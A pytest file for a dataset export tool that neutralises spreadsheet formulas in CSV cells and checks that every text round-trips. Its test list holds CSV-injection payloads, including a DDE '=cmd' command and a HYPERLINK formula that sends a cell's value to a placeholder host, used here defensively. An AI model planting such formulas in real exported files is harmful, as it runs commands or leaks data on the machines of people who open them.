"""CSV for people: nothing in it is a formula, and every text comes back."""

import csv
import re

import orjson
import pytest
from datasets import load_dataset
from hypothesis import given
from hypothesis import strategies as st

from exports.recipes.recipe import BadRecipe
from exports.storage import folders
from exports.validators import Broken, check
from exports.writing import shards
from exports.writing.csv_rows import as_cell
from labeling.csv_cells import as_given, harmless
from tests import make
from tests.exports.build import NASTY, contents, export, manifest, rows
from tests.exports.targets import nasty

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", " =1", "\t=1", "\r=1", "\n=1", "\u00a0=1", "'=1", "''=1",
    "＝1", "＋1", "－1", "＠x", "\tx", "\rx", '=HYPERLINK("http://x.test?"&A1)', "\u3000=1",
]  # fmt: skip
PLAIN = ["", "'", "'x", "x=1", "null", "NA", "nan", "1e5", "007", "true", 'a,b;c"d', "a\r\nb\rc\nd", *NASTY]
CONFIGS = ["sft", "preference", "reward", "kto", "prompts"]
EVERYTHING = {
    "target": "none", "sft": ["rewrites", "best"], "margin": "small", "min_strength": {"preference": 0, "reward": 0},
}  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_harmless_and_comes_back(text):
    assert harmless(text) == f"'{text}"
    assert as_given(harmless(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_stay_as_they_are(text):
    assert harmless(text) == text == as_given(text)


@given(st.text() | st.text("'=+-@＝ \t\r\nx", max_size=6))
def test_every_text_comes_back_and_none_begins_as_a_formula(text):
    cell = harmless(text)
    assert as_given(cell) == text
    assert not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r]", cell)


def test_numbers_stay_numbers_and_the_rest_is_json():
    values = [-1, -1.0, True, False, [], ["=1"], [{"role": "user", "content": "=1"}]]
    assert [as_cell(value) for value in values] == [
        "-1", "-1.0", "true", "false", "[]", '["=1"]', '[{"role":"user","content":"=1"}]',
    ]  # fmt: skip


def told_by_csv(made, config):
    """The rows of a config, as somebody reads them who follows the card."""
    found = []
    for path in sorted((folders.folder_of(made.pk) / config).glob("*.csv")):
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        with path.open(encoding="utf-8-sig", newline="") as file:
            found += [{name: as_given(cell) for name, cell in row.items()} for row in csv.DictReader(file, strict=True)]
    return found


def flat(row):
    """The cells of a Parquet row, without their quotes."""
    return {key: value if isinstance(value, str) else orjson.dumps(value).decode() for key, value in row.items()}


def nasty_project():
    """Completions, ids and models that would run, break the line or pass for nothing."""
    of = make.project(splits={"train": 1.0, "validation": 0.0, "test": 0.0})
    texts = [text for text in [*FORMULAS, *PLAIN] if text.strip()]
    make.imported(
        of,
        [
            {
                "id": f"t{number}", "prompt": text, "source": "=1", "use_case": "-x",
                "completions": [{"text": text, "model": "=m"}, {"text": f"{text}!", "model": "null"}],
            }
            for number, text in enumerate(texts)
        ],
    )  # fmt: skip
    labeler = make.member(of)
    for _ in texts:
        make.submitted(make.claimed(of, labeler))
    return of


@pytest.mark.django_db
def test_the_table_has_what_parquet_has():
    of = nasty_project()
    made = export(of, files="csv", **EVERYTHING)
    exact = export(of, snapshot=str(made.pk), **{**EVERYTHING, "target": "trl"})
    folder = folders.folder_of(made.pk)
    check(folder, "none")
    assert made.counts["preference"]["train"] > 20
    for config in made.counts:
        assert told_by_csv(made, config) == [flat(row) for row in rows(exact, config)], config
    digests = manifest(exact)["row_hashes"]
    assert manifest(made)["row_hashes"].items() <= digests.items()
    again = export(of, snapshot=str(made.pk), files="csv", **EVERYTHING)
    assert contents(folder) == contents(folders.folder_of(again.pk))


@pytest.mark.django_db
def test_datasets_reads_it_by_the_card():
    made = export(nasty_project(), files="csv", **EVERYTHING)
    for config in made.counts:
        told = told_by_csv(made, config)
        loaded = load_dataset(str(folders.folder_of(made.pk)), config)["train"]
        assert len(loaded) == len(told)
        assert all(type(row["prompt"]) is str for row in loaded)
        texts = [name for name, feature in loaded.features.items() if feature.dtype == "string"]
        assert [{name: as_given(row[name]) for name in texts} for row in loaded] == [
            {name: row[name] for name in texts} for row in told
        ]


@pytest.mark.django_db
def test_the_lines_of_the_page_give_every_text_back():
    pandas = pytest.importorskip("pandas")
    from exports.targets import plain

    made = export(nasty_project(), files="csv", **EVERYTHING)
    lines = plain.loading(made.counts, files="csv").replace("FOLDER", str(folders.folder_of(made.pk)))
    there: dict[str, object] = {}
    exec(lines, there)
    for config in made.counts:
        table = there[config]
        assert isinstance(table, pandas.DataFrame)
        assert table.to_dict("records") == told_by_csv(made, config)


@pytest.mark.django_db
def test_what_is_not_flat_is_left_out_with_its_reason():
    made = export(nasty.project(), files="csv", target="none")
    told = manifest(made)["omitted"]["reasons"]
    assert told["ranking"] == told["raw"]
    assert "no table" in told["raw"]
    assert set(made.counts) <= set(CONFIGS)
    whole = export(made.project, snapshot=str(made.pk), target="none")
    assert {"ranking", "raw"} <= set(whole.counts)


@pytest.mark.django_db
def test_every_shard_has_its_mark_and_header(monkeypatch):
    monkeypatch.setattr(shards, "SHARD_ROWS", 5)
    made = export(nasty_project(), files="csv", **EVERYTHING)
    paths = [file["path"] for file in made.files if file["path"].startswith("preference/")]
    assert len(paths) > 2
    assert len(told_by_csv(made, "preference")) == made.counts["preference"]["train"]


@pytest.mark.django_db
def test_trainers_are_not_given_csv():
    of = make.project()
    with pytest.raises(BadRecipe) as refused:
        export(of, files="csv")
    assert list(refused.value.fields) == ["files"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("break_it", "why"),
    [
        (lambda text: text.replace('"prompt"', '"Prompt"', 1), "another header"),
        (lambda text: text + '"one"\r\n', "has 1 cells"),
        (lambda text: text.replace('"\'=1"', '"=1"', 1), "is a formula"),
        (lambda text: text + '"open', "cannot be read as CSV"),
    ],
)
def test_a_corrupt_table_is_found(break_it, why):
    made = export(nasty_project(), files="csv", **EVERYTHING)
    path = next(folders.folder_of(made.pk).glob("preference/*.csv"))
    text = path.read_bytes().decode("utf-8-sig")
    assert break_it(text) != text
    path.write_bytes(break_it(text).encode("utf-8-sig"))
    with pytest.raises(Broken, match=why):
        check(folders.folder_of(made.pk), "none")
